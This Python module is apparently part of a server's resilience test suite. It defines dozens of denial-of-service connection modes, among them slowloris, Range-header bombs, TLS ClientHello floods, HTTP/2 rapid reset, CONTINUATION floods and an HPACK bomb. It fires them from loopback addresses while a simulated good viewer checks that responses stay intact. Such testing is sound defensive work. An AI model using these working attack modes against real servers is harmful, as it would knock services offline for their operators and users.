# SPDX-License-Identifier: Apache-2.0
"""Attackers that come from one address or from fifty, and a good viewer who counts what of it he feels.

    with Swarm(edge.address, modes(...)["slowloris"], addresses(50), width=500), GoodViewer(edge.address, HOST, targets) as good:
        good.watch(50)
    assert not good.failures

A mode is what one connection of a swarm does: it says `first`, then `again` every turn. Connections that the server
closes are opened anew.
"""
import errno
import os
import socket
import ssl
import struct
import threading
import time
from dataclasses import dataclass

from harness.h2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PADDED, PING,
                        PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, settings, u32)

TURN_S = 0.02


def addresses(count):
    """127.0.1.1, .2, ...: loopback's own, and none of them is the good viewer's 127.0.0.1."""
    return [f"127.0.1.{1 + number}" for number in range(count)]


@dataclass
class Mode:
    """first, again: bytes, or what makes them; `again` is told how often it has been said on its connection."""
    about: str
    first: object = b""
    again: object = b""
    takes: int = -1       # bytes of what the server says a turn; -1: all, 0: never any
    churns: bool = False  # closes with a reset every turn, and comes again
    ends: bool = False    # says that it has no more to say, after `first`
    held: bool = False    # does harm by how many connections it holds
    tls: bool = False     # aims at the listener with TLS
    h2: bool = False


def _get(target, host, *fields, method="GET"):
    return "".join([f"{method} {target} HTTP/1.1\r\n", f"Host: {host}\r\n", *(line + "\r\n" for line in fields),
                    "\r\n"]).encode()


def _plain(index, value):
    """A field without indexing (RFC 7541 section 6.2.2): the block means the same however often it is said."""
    return bytes([index, len(value)]) + value.encode()


def _block(host, target):
    return b"\x82\x86" + _plain(1, host) + _plain(4, target)  # GET, http, :authority, :path


def _h2_requests(host, target, count, first=0, flags=END_HEADERS | END_STREAM, then=None):
    """Requests number first and following, each with what `then` makes of its stream behind it."""
    streams = range(1 + 2 * first, 1 + 2 * (first + count), 2)
    return b"".join(frame(HEADERS, flags, stream, _block(host, target)) + (then(stream) if then else b"")
                    for stream in streams)


def client_hello(host):
    """As OpenSSL says it, whole and valid."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=host).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def modes(host, segment, playlist):
    """{name: Mode} against a site. segment: the path of something large."""
    return {**_http_modes(host, segment, playlist), **_tls_modes(host, playlist), **_h2_modes(host, segment, playlist)}


def _http_modes(host, segment, playlist):
    def ranges(*each):
        return _get(segment, host, "Range: bytes=" + ",".join(each))

    def post(*fields):
        return _get(playlist, host, *fields, method="POST")

    return {
        "slowloris": Mode("heads that never end", f"GET {playlist} HTTP/1.1\r\nHost: {host}\r\nX: ".encode(), b"x",
                          held=True),
        "slow first line": Mode("a byte of a request now and then", b"G", lambda n: b"ET / HTTP"[n % 9:][:1], held=True),
        "slow body": Mode("bodies that never end", post("Content-Length: 100000"), b"x", held=True),
        "slow chunks": Mode("the same in chunks of a byte", post("Transfer-Encoding: chunked"), b"1\r\nx\r\n", held=True),
        "endless chunk line": Mode("chunks whose size never ends", post("Transfer-Encoding: chunked"), b"1;" + b"x" * 500),
        "expects": Mode("bodies announced, and not sent", post("Content-Length: 100000", "Expect: 100-continue"), held=True),
        "idle flood": Mode("connections that say nothing", held=True),
        "kept idle": Mode("connections that ask once and stay", _get(playlist, host), held=True),
        "ended": Mode("half-closed connections that stay", _get(playlist, host), ends=True, held=True),
        "never read": Mode("a segment asked for and not read", _get(segment, host), takes=0, held=True),
        "ended, never read": Mode("the same, half-closed", _get(segment, host), takes=0, ends=True, held=True),
        "slow read": Mode("a segment read byte by byte", _get(segment, host), takes=1, held=True),
        "connection churn": Mode("connect, reset, connect", churns=True, held=True),
        "one request each": Mode("a connection for every request", _get(playlist, host, "Connection: close")),
        "asks and leaves": Mode("a segment asked for, and a reset", _get(segment, host), churns=True),
        "range bomb": Mode("hundreds of tiny ranges", b"", ranges(*(f"{i}-{i + 1}" for i in range(0, 1000, 3)))),
        "overlapping ranges": Mode("the whole, many times over", b"", ranges(*["0-"] * 100)),
        "many ranges": Mode("as many ranges as are obeyed, overlapping the whole", b"",
                            ranges(*(f"{i * 1000}-{i * 1000 + 900}" for i in range(16)))),
        "one byte": Mode("a byte of a segment, again and again", b"", ranges("100-100") * 20),
        "pipelining": Mode("requests without waiting for answers", b"", _get(playlist, host) * 50),
        "pipelining unread": Mode("the same, and answers are not read", b"", _get(segment, host) * 50, takes=0),
        "random query": Mode("URLs that nobody has", b"", lambda n: _get(f"{playlist}?{os.urandom(8).hex()}", host)),
        "not there": Mode("paths that do not exist", b"", lambda n: _get(f"/{os.urandom(8).hex()}", host)),
        "huge head": Mode("heads beyond the limit", b"", _get(playlist, host, *(f"X-{i}: {'x' * 900}" for i in range(40)))),
        "endless line": Mode("a field that never ends", f"GET {playlist} HTTP/1.1\r\nHost: {host}\r\nX: ".encode(),
                             b"x" * 1000),
        "many fields": Mode("a thousand small fields", b"", _get(playlist, host, *(f"X-{i}: x" for i in range(1000)))),
        "long uri": Mode("URIs beyond the limit", b"", _get("/" + "x" * 12000, host)),
        "garbage": Mode("noise", b"", lambda n: os.urandom(200)),
        "bad requests": Mode("two lengths", b"", _get(playlist, host, "Content-Length: 1", "Transfer-Encoding: chunked")),
        "unknown host": Mode("other people's names", b"", _get(playlist, "nobody.invalid")),
        "unknown methods": Mode("methods that nobody knows", b"", _get(playlist, host, method="BREW")),
        "heads": Mode("HEAD upon HEAD", b"", _get(segment, host, method="HEAD") * 20),
        "posts": Mode("what has to be passed on", b"", post("Content-Length: 4") + b"abcd"),
        "upgrades": Mode("protocols that are not spoken", b"", _get(
            playlist, host, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c, websocket", "HTTP2-Settings: AAMAAABk")),
        "half a request, again": Mode("heads cut off by a reset", f"GET {playlist} HT".encode(), churns=True),
    }


def _tls_modes(host, playlist):
    hello = client_hello(host)
    return {
        "half tls": Mode("half a ClientHello", hello[:len(hello) // 2], tls=True, held=True),
        "tls stalled": Mode("a ClientHello, and no more", hello, tls=True, held=True),
        "tls flood": Mode("ClientHellos, each on a new connection", hello, tls=True, churns=True),
        "tls broken": Mode("a ClientHello, then noise", hello, lambda n: b"\x17\x03\x03\x00\x40" + os.urandom(64), tls=True),
        "plain at tls": Mode("HTTP where TLS is spoken", _get(playlist, host), tls=True),
    }


def _h2_modes(host, segment, playlist):
    preface = PREFACE + frame(SETTINGS, 0, 0)
    open_stream = preface + _h2_requests(host, playlist, 1, flags=END_HEADERS)
    wide = PREFACE + frame(SETTINGS, 0, 0, settings((INITIAL_WINDOW_SIZE, 1 << 30))) + frame(WINDOW_UPDATE, 0, 0, u32(1 << 30))
    narrow = PREFACE + frame(SETTINGS, 0, 0, settings((INITIAL_WINDOW_SIZE, 0)))

    def streams(count, target=playlist, **how):
        return lambda n: _h2_requests(host, target, count, first=n * count, **how)

    return {name: Mode(*about, h2=True, **how) for name, about, how in [
        ("h2 half a preface", ("half a preface", PREFACE[:16]), {"held": True}),
        ("h2 idle", ("connections without a stream", preface), {"held": True}),
        ("h2 leaves open", ("GOAWAY, and stays", preface + frame(GOAWAY, 0, 0, u32(0) + u32(0))), {"held": True}),
        ("h2 streams unended", ("requests that never end", preface + _h2_requests(host, playlist, 90, flags=END_HEADERS)),
         {"held": True}),
        ("h2 window zero", ("streams that may not send", narrow + _h2_requests(host, segment, 90)), {"held": True}),
        ("h2 tiny windows", ("a byte at a time", narrow + _h2_requests(host, segment, 1), frame(WINDOW_UPDATE, 0, 1, u32(1)) * 20),
         {}),
        ("h2 never read", ("wide windows, and nothing is read", wide + _h2_requests(host, segment, 90)),
         {"takes": 0, "held": True}),
        ("h2 segments", ("as much as one may ask for", wide, streams(4, segment)), {}),
        ("h2 requests", ("requests without pause", wide, streams(40)), {}),
        ("h2 rapid reset", ("streams cancelled at once", preface + _h2_requests(
            host, playlist, 400, then=lambda stream: frame(RST_STREAM, 0, stream, u32(8)))), {"churns": True}),
        ("h2 slow reset", ("streams cancelled at once, on and on", preface,
                           streams(20, then=lambda stream: frame(RST_STREAM, 0, stream, u32(8)))), {}),
        ("h2 made reset", ("streams that we have to cancel", preface,
                           streams(20, then=lambda stream: frame(WINDOW_UPDATE, 0, stream, u32(0)))), {}),
        ("h2 empty continuations", ("a head of empty frames", preface + frame(HEADERS, 0, 1, b"\x82"),
                                    frame(CONTINUATION, 0, 1) * 50), {}),
        ("h2 continuations", ("a head without end", preface + frame(HEADERS, 0, 1, _block(host, playlist)),
                              frame(CONTINUATION, 0, 1, (b"\x00\x01x\x7f\x61" + b"x" * 224) * 40)), {}),
        ("h2 slow head", ("a head byte by byte", preface + b"\x00\x10\x00\x01\x04\x00\x00\x00\x01", b"\x82"), {"held": True}),
        ("h2 hpack bomb", ("a large field, named a thousand times by a byte", preface, lambda n: frame(
            HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n,
            _block(host, playlist) + b"\x40\x01x\x7f\xb9\x17" + b"x" * 3000 + b"\xbe" * 1000)), {}),
        ("h2 settings", ("settings upon settings", preface, frame(SETTINGS, 0, 0) * 50), {}),
        ("h2 pings", ("pings upon pings", preface, frame(PING, 0, 0, b"12345678") * 50), {}),
        ("h2 pings unread", ("the same, and answers are not read", preface, frame(PING, 0, 0, b"12345678") * 50),
         {"takes": 0}),
        ("h2 priorities", ("priorities upon priorities", preface, frame(PRIORITY, 0, 3, u32(0) + b"\x10") * 50), {}),
        ("h2 window updates", ("windows of the connection, byte by byte", preface, frame(WINDOW_UPDATE, 0, 0, u32(1)) * 50), {}),
        ("h2 empty data", ("a body of empty frames", open_stream, frame(DATA, 0, 1) * 50), {}),
        ("h2 padding", ("a body of padding alone", open_stream, frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 50), {}),
        ("h2 unknown frames", ("frames that nobody knows", preface, frame(200, 0, 0, b"x") * 50), {}),
        ("h2 garbage", ("noise behind the preface", preface, lambda n: os.urandom(200)), {}),
        ("h2 huge frame", ("a frame beyond the limit", preface, frame(DATA, 0, 1, b"x" * 1000, size=(1 << 24) - 1)), {}),
    ]}


class _One:
    """One attacking connection."""

    def __init__(self, address, mode, source):
        self.address, self.mode, self.source = address, mode, source
        self.socket, self.pending, self.said = None, b"", 0

    def open(self):
        self.socket = socket.socket()
        self.socket.setblocking(False)
        if self.mode.takes >= 0:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            self.socket.setsockopt(socket.IPPROTO_IP, getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24), 1)
            self.socket.bind((self.source, 0))
            self.socket.connect(self.address)
        except BlockingIOError:
            pass
        except OSError:
            self.close()
            return
        self.pending, self.said = self.mode.first, 0

    def turn(self):
        """False: it has been closed."""
        try:
            if not self.pending and self.mode.again:
                self.pending = self.mode.again(self.said) if callable(self.mode.again) else self.mode.again
                self.said += 1
            if self.pending:
                self.pending = self.pending[self.socket.send(self.pending):]
                if self.mode.ends and not self.pending:
                    self.socket.shutdown(socket.SHUT_WR)
        except BlockingIOError:
            pass
        except OSError as error:
            return error.errno in (errno.ENOTCONN, errno.EAGAIN)
        return self._take_in()

    def _take_in(self):
        try:
            if self.mode.takes > 0 and not self.socket.recv(self.mode.takes):
                return False
            while self.mode.takes < 0:
                if not self.socket.recv(1 << 16):
                    return False
        except BlockingIOError:
            return True
        except OSError as error:
            return error.errno == errno.ENOTCONN
        return True

    def close(self, reset=False):
        if self.socket is None:
            return
        if reset:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.socket.close()
        self.socket = None


class Swarm:
    """So many connections that attack until the end of the with block, in a thread."""

    def __init__(self, address, mode, sources, width):
        self.mode = mode
        self.opened = 0
        self.ones = [_One(address, mode, sources[number % len(sources)]) for number in range(width)]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._first_turn = threading.Event()

    def __enter__(self):
        self._thread.start()
        assert self._first_turn.wait(60)
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join()
        for one in self.ones:
            one.close(reset=True)

    def _run(self):
        while not self._stop.is_set():
            for one in self.ones:
                self._one_turn(one)
                if self._stop.is_set():
                    break
            self._first_turn.set()
            self._stop.wait(TURN_S)
        self._first_turn.set()

    def _one_turn(self, one):
        if one.socket is None:
            one.open()
            self.opened += one.socket is not None
        if one.socket is not None and not one.turn():
            one.close()
        if self.mode.churns:
            one.close(reset=True)


class GoodViewer:
    """Asks for its targets in turn, now on a kept connection, now on a new one; whole bodies count only."""

    def __init__(self, address, host, targets, source="127.0.0.1", timeout_s=30):
        """targets: {path: body}."""
        self.address, self.host, self.source, self.timeout_s = address, host, source, timeout_s
        self.targets = list(targets.items())
        self.latencies_s, self.failures = [], []
        self.kept = None

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self._drop()

    def watch(self, count=None, for_s=None, pause_s=0.0):
        """count requests, or as many as fit into for_s."""
        until = time.monotonic() + for_s if for_s else None
        number = 0
        while (count is None or number < count) and (until is None or time.monotonic() < until):
            self._one(number)
            number += 1
            if pause_s:
                time.sleep(pause_s)

    def percentile(self, share):
        each = sorted(self.latencies_s)
        return each[min(len(each) - 1, int(share * len(each)))] if each else float("nan")

    def _drop(self):
        if self.kept:
            self.kept.close()
        self.kept = None

    def _one(self, number):
        path, body = self.targets[number % len(self.targets)]
        if number % 4 == 3:
            self._drop()
        was_kept = self.kept is not None
        began = time.monotonic()
        try:
            if not self._ask(path, body):
                self.failures.append(f"{path}: wrong bytes, kept {was_kept}")
        except OSError as error:
            self._drop()
            self.failures.append(f"{path}: {error!r}, kept {was_kept}")
        self.latencies_s.append(time.monotonic() - began)

    def _ask(self, path, body):
        if self.kept is None:
            self.kept = socket.create_connection(self.address, self.timeout_s, source_address=(self.source, 0))
        self.kept.sendall(_get(path, self.host))
        data = b""
        while b"\r\n\r\n" not in data:
            more = self.kept.recv(1 << 16)
            if not more:
                raise ConnectionResetError("closed before the head")
            data += more
        head, _, rest = data.partition(b"\r\n\r\n")
        got = bytearray(rest)
        while len(got) < len(body):
            more = self.kept.recv(1 << 20)
            if not more:
                raise ConnectionResetError("closed in the body")
            got += more
        return head.split(b" ", 2)[1] == b"200" and got == body
